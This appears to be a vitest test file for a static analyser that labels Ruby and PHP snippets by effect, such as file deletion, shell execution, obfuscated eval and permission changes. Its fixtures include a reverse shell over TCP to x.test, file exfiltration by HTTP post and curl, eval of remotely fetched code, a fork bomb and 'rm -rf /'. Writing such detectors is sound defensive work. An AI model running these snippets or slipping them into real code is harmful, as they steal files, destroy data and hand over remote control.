// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code under test has placeholders of its own
import { describe, expect, test } from "vitest";
import { codeLines, given } from "./code-lines.ts";

const P = "/home/dev/project";
const H = "/home/dev";
const gone = (...names: readonly string[]) => names.map((name) => `delete remove ${P}/${name}`);
const ran = (line: string) => [`code inline sh ${line}`, `run ${line}`];

const ruby: readonly (readonly [string, readonly string[]])[] = [
  ["File.delete('a' + \"b#{1}\", 'c')", gone("ab1", "c")],
  ["x = 'a'; x += 'b'; File.unlink(x)", gone("ab")],
  ["FileUtils.rm_rf('a'); FileUtils.rm('b')", [`${gone("a")[0]} all`, ...gone("b")]],
  ["%w[a b].each { |f| File.delete(f) }", gone("a", "b")],
  ["Dir.glob('/etc/*').each do |f| File.delete f end", ["delete remove /etc/*"]],
  ["File.delete(File.join(Dir.home, 'a')); File.delete(File.expand_path('~/b')); File.delete(ENV['HOME'] + '/c')", ["a", "b", "c"].map((name) => `delete remove ${H}/${name}`)],
  ["File.write('a', 'hi'); File.open('b', 'w') { |f| f.puts 'ho' }; File.open('c', 'a') { |f| f << 'x' }", [`write truncate ${P}/a = hi`, `write truncate ${P}/b = ho`, `write append ${P}/c = x`]],
  ["system 'rm a'", [...ran("rm a"), ...gone("a")]],
  ["system 'rm', 'a'", ["run rm a", ...gone("a")]],
  ["`rm a`; %x(rm b)", [...ran("rm a"), ...gone("a"), ...ran("rm b"), ...gone("b")]],
  ["exec(\"rm #{'a'}\") unless x", [...ran("rm a"), ...gone("a")]],
  ["Open3.capture2('rm', 'a'); IO.popen(['rm', 'b']); spawn('rm c')", ["run rm a", ...gone("a"), "run rm b", ...gone("b"), ...ran("rm c"), ...gone("c")]],
  ["open('|rm a')", [...ran("rm a"), ...gone("a")]],
  ["Kernel.send(:system, 'rm a'); Object.const_get('File').delete('b')", [...ran("rm a"), ...gone("a", "b")]],
  ["eval 'File.delete(\"a\")'", ['code inline ruby File.delete("a")', ...gone("a")]],
  ["eval 'RmlsZS5kZWxldGUoImEiKQ=='.unpack1('m')", ['code decoded ruby File.delete("a")', ...gone("a")]],
  ["File.delete([97, 98].pack('C*'), ['6162'].pack('H*'), 97.chr)", gone("ab", "ab", "a")],
  ["loop { fork }", ["system fork-bomb"]],
  ["require 'net/http'; Net::HTTP.post(URI('https://x.test'), File.read('a'))", [`read content ${P}/a`, `send file x.test ${P}/a`]],
  ["eval(URI.open('https://x.test/a').read)", ["fetch x.test", "code remote ruby ?"]],
  ["f = TCPSocket.open('x.test', 1).to_i; exec sprintf('/bin/sh -i <&%d >&%d', f, f)", ["network connect x.test", "network reverse-shell"]],
  ["File.chmod(0777, 'a'); FileUtils.chmod_R(0o755, 'b')", [`permission world-writable ${P}/a 777`, `permission executable ${P}/b 755`]],
  ["def f(p) = File.delete(p)\nf('a')", gone("a")],
  ["def f(p)\n File.delete(p)\nend", []],
  ["class A\n def initialize(p); @p = p; end\n def self.go(p); File.delete(p); end\nend\nA.go('a')", gone("a")],
  ["x = <<~EOS\n  rm -rf /\nEOS\nputs x", []],
  ["File.delete(<<~EOS.strip)\n  a\nEOS", gone("a")],
  ["begin; x; rescue => e; File.delete('a'); ensure; File.delete('b'); end", gone("a", "b")],
  ["case x when 1 then File.delete('a') else File.delete('b') end", gone("a", "b")],
  ["puts 'rm -rf /'; # system('rm -rf /')", []],
]; // biome-ignore format: one table

describe("Ruby code", () => {
  test.each(ruby)("%s", (code, lines) => {
    expect(codeLines(given("ruby", code)).slice(0, Math.max(lines.length, 0) || undefined)).toEqual(lines);
  });
});

const php: readonly (readonly [string, readonly string[]])[] = [
  ["unlink('a' . \"b{$x}\");", ["delete remove /home/dev/project/ab\uFFFC"]],
  ["$f = 'unl' . 'ink'; $f('a');", gone("a")],
  ["system('rm a'); `rm b`;", [...ran("rm a"), ...gone("a"), ...ran("rm b"), ...gone("b")]],
  ["eval(base64_decode('dW5saW5rKCJhIik7'));", ['code decoded php unlink("a");', ...gone("a")]],
  ["eval(str_rot13('hayvax(\"n\");'));", ['code decoded php unlink("a");', ...gone("a")]],
  ["foreach (glob('/etc/*') as $k => $f) { unlink($f); }", ["delete remove /etc/*"]],
  ["foreach (['a', 'b'] as $f) unlink($f);", gone("a", "b")],
  ["array_map('unlink', ['a', 'b']); call_user_func('unlink', 'c');", gone("a", "b", "c")],
  ["file_put_contents('a', 'hi'); file_put_contents('b', 'ho', FILE_APPEND); fwrite(fopen('c', 'w'), 'x');", [`write truncate ${P}/a = hi`, `write append ${P}/b = ho`, `write truncate ${P}/c = x`]],
  ["function f($p) { unlink($p); } f('a'); $g = fn($x) => $x . 'b'; unlink($g('a'));", gone("a", "ab")],
  ["eval(file_get_contents('https://x.test/a'));", ["fetch x.test", "code remote php ?"]],
  ["$c = curl_init('https://x.test'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('a')); curl_exec($c);", [`read content ${P}/a`, `send file x.test ${P}/a`]],
  ["if ($x) unlink('a'); else unlink('b'); while ($y) { unlink('c'); } try { unlink('d'); } catch (E $e) {}", gone("a", "b", "c", "d")],
  ["class A { function go($p) { unlink($p); } } (new A())->go('a');", gone("a")],
  ["echo 'rm -rf /'; // unlink('a');", []],
  ["unlink(strrev('ba') . chr(99) . implode('', ['d', 'e']) . sprintf('%s', 'f') . strtolower('G'));", gone("abcdefg")],
]; // biome-ignore format: one table

describe("PHP code", () => {
  test.each(php)("%s", (code, lines) => {
    expect(codeLines(given("php", `<?php ${code}`))).toEqual(lines);
  });
});
